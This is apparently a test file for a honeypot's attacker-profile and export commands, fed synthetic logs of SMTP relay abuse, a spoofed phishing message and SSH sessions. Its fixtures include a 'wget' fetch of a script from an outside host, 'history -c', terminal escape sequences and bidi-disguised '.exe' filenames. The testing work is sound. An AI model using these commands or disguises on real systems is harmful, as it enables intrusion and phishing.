import assert from 'node:assert/strict'
import {describe, it, type TestContext} from 'node:test'

import {DATABASE_KINDS, skipReason, type DatabaseKind} from '../helpers/databases.js'
import {profiledLog, runShow as decnet} from '../helpers/profiled-log.js'
import {insertLogs} from '../helpers/profiler-logs.js'

const A = '203.0.113.40'
const B = '198.51.100.77'
const SHA = (c: string) => c.repeat(64)
/** An SD value as DECNET escapes it (`\`, `"`, `]`). */
const sd = (value: string) => value.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]')
const line = (time: string, host: string, app: string, type: string, fields: Record<string, string>, pri = 134) =>
  `<${pri}>1 2026-11-26T${time}+00:00 ${host} ${app} - ${type} [relay@55555 ${Object.entries(fields).map(([k, v]) => `${k}="${sd(v)}"`).join(' ')}]`

/** A subject an attacker chose: a bidi override, C1 controls, a huge tail. */
const HOSTILE_SUBJECT = `Invoice \u202Egpj.exe\u202C \u009B2J ${'x'.repeat(2000)}`
const ATTACHMENTS = JSON.stringify([
  {filename: 'invoice.docm', content_type: 'application/vnd.ms-word.document.macroEnabled.12', size: 20480, sha256: SHA('a'), macro_indicator: true, encrypted: false},
  {filename: 'scan\u202Efdp.exe', content_type: 'application/octet-stream', size: 4096, sha256: SHA('B'), macro_indicator: false, encrypted: true},
])
/** A relay run: 1,500 recipients on 1,200 domains. */
const MANY = Array.from({length: 1500}, (_, i) => `u${i}@d${i % 1200}.example.org`).join(',')

/** DECNET's wire format (DECNET-EVENTS.md §1.1, §1.5): an open relay session, a harvester, SSH sessions with commands. */
const LINES = [
  line('10:00:00.000000', 'mx-01', 'smtp_relay', 'connect', {src: A, src_port: '40000'}),
  line('10:00:01.000000', 'mx-01', 'smtp_relay', 'mail_from', {src: A, value: '<ceo@paypa1.example.net>', mail_from: 'ceo@paypa1.example.net', domain: 'paypa1.example.net'}),
  line('10:00:02.000000', 'mx-01', 'smtp_relay', 'rcpt_to', {src: A, value: '<cfo@Bank.Example.COM>'}),
  line('10:00:03.000000', 'mx-01', 'smtp_relay', 'rcpt_to', {src: A, value: '<info@Bücher.de>'}),
  line('10:00:04.000000', 'mx-01', 'smtp_relay', 'rcpt_greylisted', {src: A, value: '<ops@bank.example.com>'}),
  line('10:00:05.000000', 'mx-01', 'smtp_relay', 'rcpt_rejected_tld', {src: A, value: '<x@victim.test>'}, 132),
  line('10:00:06.000000', 'mx-01', 'smtp_relay', 'rcpt_to', {src: A, value: '<"evil\u202E"@ex\u0085ample.com>'}),
  line('10:00:07.000000', 'mx-01', 'smtp_relay', 'message_accepted', {src: A, mail_from: 'ceo@paypa1.example.net', rcpt_to: 'cfo@bank.example.com,info@bücher.de', body_bytes: '31337', truncated: '0', msg_id: '4F2A1B9C'}),
  line('10:00:08.000000', 'mx-01', 'smtp_relay', 'message_stored', {
    src: A, msg_id: '4F2A1B9C', stored_as: `20261126T100008_${'c'.repeat(12)}_4F2A1B9C.eml`, sha256: SHA('c'), size: '31337', truncated: '0',
    mail_from: 'ceo@paypa1.example.net', rcpt_to: 'cfo@bank.example.com,info@bücher.de', subject: HOSTILE_SUBJECT, from_hdr: '"CEO" <ceo@paypal.com>',
    x_mailer: 'gophish', attachment_count: '2', attachments_json: ATTACHMENTS,
  }),
  line('10:01:00.000000', 'mx-02', 'smtp', 'rcpt_denied', {src: A, value: '<cfo@bank.example.com>'}, 132),
  line('11:00:00.000000', 'mx-01', 'smtp_relay', 'message_accepted', {src: B, mail_from: 'spam@spam.example.net', rcpt_to: MANY, body_bytes: '100', truncated: '0', msg_id: 'AA'}),
  line('11:00:01.000000', 'mx-01', 'smtp_relay', 'message_stored', {src: B, msg_id: 'AA', sha256: SHA('d'), size: '100', rcpt_to: MANY, subject: 'cheap', attachment_count: '0', attachments_json: '[]'}),
  // SSH: commands inside the first session (on its decky), one after it, one on another decky; a session with none; one without a duration
  line('10:04:10.000000', 'decky-01', 'ssh', 'command', {src_ip: A, command: 'uname -a'}),
  line('10:04:30.000000', 'decky-02', 'ssh', 'command', {src_ip: A, command: 'id # elsewhere'}),
  line('10:04:50.000000', 'decky-01', 'ssh', 'command', {src_ip: A, command: 'wget http://198.51.100.9/x.sh'}),
  line('10:05:00.000000', 'decky-01', 'sessrec', 'session_recorded', {sid: 's-with', service: 'ssh', src_ip: A, duration_s: '60.000', bytes: '1234', truncated: 'false'}),
  line('10:06:00.000000', 'decky-01', 'ssh', 'command', {src_ip: A, command: 'history -c'}),
  line('10:30:00.000000', 'decky-01', 'sessrec', 'session_recorded', {sid: 's-empty', service: 'ssh', src_ip: A, duration_s: '10.5', bytes: '80', truncated: 'false'}),
  line('10:40:00.000000', 'decky-01', 'sessrec', 'session_recorded', {sid: 's-unknown', service: 'ssh', src_ip: A, bytes: '80', truncated: 'false'}),
]

async function profiled(t: TestContext, kind: DatabaseKind): Promise<string> {
  // the last line's subject holds bytes that are no UTF-8
  const hostileBytes = Buffer.concat([Buffer.from(line('12:00:00.000000', 'mx-01', 'smtp_relay', 'message_stored', {src: A, msg_id: 'BAD', subject: 'PLACEHOLDER'})), Buffer.from('\n')])
  const at = hostileBytes.indexOf('PLACEHOLDER')
  const log = Buffer.concat([Buffer.from(`${LINES.join('\n')}\n`), hostileBytes.subarray(0, at), Buffer.from([0x66, 0xff, 0xfe, 0xc3, 0x28, 0x67]), hostileBytes.subarray(at + 'PLACEHOLDER'.length)])
  return profiledLog(t, kind, log, {
    batchSize: 5,
    async beforeProfiling(db) {
      // a foreign log store's row: control characters an ingest would have refused
      await insertLogs(db, [{
        attacker_ip: A, decky: 'mx-01', event_type: 'message_stored', msg: null, raw_line: 'foreign', service: 'smtp_relay', timestamp: '2026-11-26T12:30:00.000Z',
        fields: JSON.stringify({src: A, msg_id: 'ESC', subject: 'pwn \u001b]0;owned\u0007\u001b[2J\u0000', from_hdr: 'a\nb', rcpt_to: 'a@b.com', attachments_json: '{not json'}),
      }])
    },
  })
}

interface Shown {
  mail: Array<Record<string, unknown> & {subject: null | string; attachments: Array<Record<string, unknown>>}>
  mailCount: number
  smtpTargets: Array<{domain: string; count: number; messages: number; firstSeen: string; lastSeen: string}>
  smtpTargetCount: number
  sessions: Array<{id: string; commands: Array<{command: string; decky: string}>; commandCount: number}>
}

for (const kind of DATABASE_KINDS) {
  describe(`decnet attackers show: mail, SMTP targets and sessions' commands (${kind})`, {skip: skipReason(kind), timeout: 120_000}, () => {
    it('carries stored mail, SMTP target domains and each session\'s commands, in JSON and escaped text', async (t) => {
      const url = await profiled(t, kind)
      const json = await decnet(t, ['attackers', 'show', A, '--json', '--db', url])
      assert.equal(json.code, 0, json.stderr)
      const shown = JSON.parse(json.stdout) as Shown & Record<string, unknown>
      assert.deepEqual(Object.keys(shown).slice(-4), ['mail', 'mailCount', 'smtpTargets', 'smtpTargetCount'], 'new fields at the end')

      assert.equal(shown.mailCount, 3)
      const [foreign, badBytes, stored] = shown.mail
      assert.equal(foreign.msgId, 'ESC')
      assert.equal(foreign.subject, 'pwn \u001b]0;owned\u0007\u001b[2J\uFFFD', 'exact text in JSON (NUL as U+FFFD)')
      assert.deepEqual(foreign.attachments, [])
      assert.equal(foreign.attachmentCount, null)
      assert.equal(badBytes.msgId, 'BAD')
      assert.ok(typeof badBytes.subject === 'string' && badBytes.subject.startsWith('f') && badBytes.subject.endsWith('g') && badBytes.subject.includes('\uFFFD'), `${badBytes.subject}`)
      assert.equal(stored.subject, HOSTILE_SUBJECT.slice(0, 512), 'kept to 512 characters')
      assert.deepEqual(
        {...stored, subject: undefined},
        {
          timestamp: '2026-11-26T10:00:08.000Z', decky: 'mx-01', service: 'smtp_relay', msgId: '4F2A1B9C', subject: undefined, from: '"CEO" <ceo@paypal.com>',
          mailFrom: 'ceo@paypa1.example.net', recipientCount: 2, recipientDomains: ['bank.example.com', 'xn--bcher-kva.de'], attachmentCount: 2,
          attachments: [
            {filename: 'invoice.docm', contentType: 'application/vnd.ms-word.document.macroEnabled.12', size: 20480, sha256: SHA('a'), macro: true, encrypted: false},
            {filename: 'scan\u202Efdp.exe', contentType: 'application/octet-stream', size: 4096, sha256: SHA('b'), macro: false, encrypted: true},
          ],
          size: 31337, sha256: SHA('c'), truncated: false, xMailer: 'gophish', storedAs: `20261126T100008_${'c'.repeat(12)}_4F2A1B9C.eml`,
        },
      )

      // RCPT TO: bank 2 (+ the harvester's denial) and a message; the IDN once as its A-label; the reserved TLD and the hostile address are none
      assert.equal(shown.smtpTargetCount, 2)
      assert.deepEqual(shown.smtpTargets, [
        {domain: 'bank.example.com', count: 3, messages: 1, firstSeen: '2026-11-26T10:00:02.000Z', lastSeen: '2026-11-26T10:01:00.000Z'},
        {domain: 'xn--bcher-kva.de', count: 1, messages: 1, firstSeen: '2026-11-26T10:00:03.000Z', lastSeen: '2026-11-26T10:00:07.000Z'},
      ])

      const byId = new Map(shown.sessions.map((s) => [s.id, s]))
      assert.deepEqual(byId.get('s-with')?.commands.map((c) => c.command), ['uname -a', 'wget http://198.51.100.9/x.sh'], 'inside its window, on its decky, in time order')
      assert.equal(byId.get('s-with')?.commandCount, 2)
      assert.deepEqual([byId.get('s-empty')?.commands, byId.get('s-empty')?.commandCount], [[], 0])
      assert.deepEqual([byId.get('s-unknown')?.commands, byId.get('s-unknown')?.commandCount], [[], 0], 'no duration: no window')

      const text = await decnet(t, ['attackers', 'show', A, '--db', url])
      assert.equal(text.code, 0, text.stderr)
      assert.doesNotMatch(text.stdout, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E]/, 'no control or bidi character reaches the terminal')
      assert.match(text.stdout, /subject {5}pwn \\x1b\]0;owned\\x07\\x1b\[2J\uFFFD\n/)
      assert.match(text.stdout, /subject {5}Invoice \\u\{202e\}gpj\.exe\\u\{202c\} \\x9b2J x+\n/)
      assert.match(text.stdout, /from {8}a\\x0ab\n/)
      assert.match(text.stdout, /attachment {2}invoice\.docm {2}application\/vnd\.ms-word\.document\.macroEnabled\.12 {2}20480 bytes {2}a{64} {2}macro\n/)
      assert.match(text.stdout, /bank\.example\.com +3 +1 {2}2026-11-26 10:00:02Z {2}2026-11-26 10:01:00Z\n/)
      assert.match(text.stdout, /s-with\n {6}2026-11-26 10:04:10Z {2}uname -a\n {6}2026-11-26 10:04:50Z {2}wget http:\/\/198\.51\.100\.9\/x\.sh\n/)
      const order = ['\n  commands ', '\n  mail ', '\n  smtp targets ', '\n  sessions '].map((heading) => text.stdout.indexOf(heading))
      assert.ok(order.every((at, i) => at > 0 && (i === 0 || at > order[i - 1])), `sections in the operator's order: ${order.join(',')}`)
    })

    it('bounds a relay run with many recipients, and exports what show shows', async (t) => {
      const url = await profiled(t, kind)
      const json = await decnet(t, ['attackers', 'show', B, '--json', '--db', url])
      assert.equal(json.code, 0, json.stderr)
      const shown = JSON.parse(json.stdout) as Shown
      assert.equal(shown.smtpTargetCount, 1000, 'the first 1,000 recipients of a line')
      assert.equal(shown.smtpTargets.length, 200)
      assert.ok(shown.smtpTargets.every((target) => target.count === 0 && target.messages === 1))
      assert.equal(shown.mail[0].recipientCount, 1500)
      assert.equal((shown.mail[0].recipientDomains as string[]).length, 64)
      const text = await decnet(t, ['attackers', 'show', B, '--db', url])
      assert.match(text.stdout, /\n {2}smtp targets {3}1000 \(the 200 most tried\)\n/)

      const exported = await decnet(t, ['export', 'json', A, B, '--db', url])
      assert.equal(exported.code, 0, exported.stderr)
      const lines = exported.stdout.trim().split('\n').map((text) => JSON.parse(text) as Record<string, unknown>)
      for (const [ip, fromExport] of [[B, lines[0]], [A, lines[1]]] as const) {
        const show = await decnet(t, ['attackers', 'show', ip, '--json', '--db', url])
        const {attackVersion, ...rest} = fromExport
        assert.equal(typeof attackVersion, 'string')
        assert.deepEqual(rest, JSON.parse(show.stdout), `export json of ${ip} is show's object`)
      }

      const stix = await decnet(t, ['export', 'stix', A, '--db', url])
      assert.equal(stix.code, 0, stix.stderr)
      const {objects} = JSON.parse(stix.stdout) as {objects: Array<Record<string, unknown>>}
      const domains = objects.filter((o) => o.type === 'domain-name')
      assert.deepEqual(domains.map((o) => o.value).sort(), ['bank.example.com', 'xn--bcher-kva.de'])
      const observed = objects.filter((o) => o.type === 'observed-data' && (o.object_refs as string[]).includes(domains[0].id as string))
      assert.equal(observed.length, 1, 'each domain observed once')
    })
  })
}
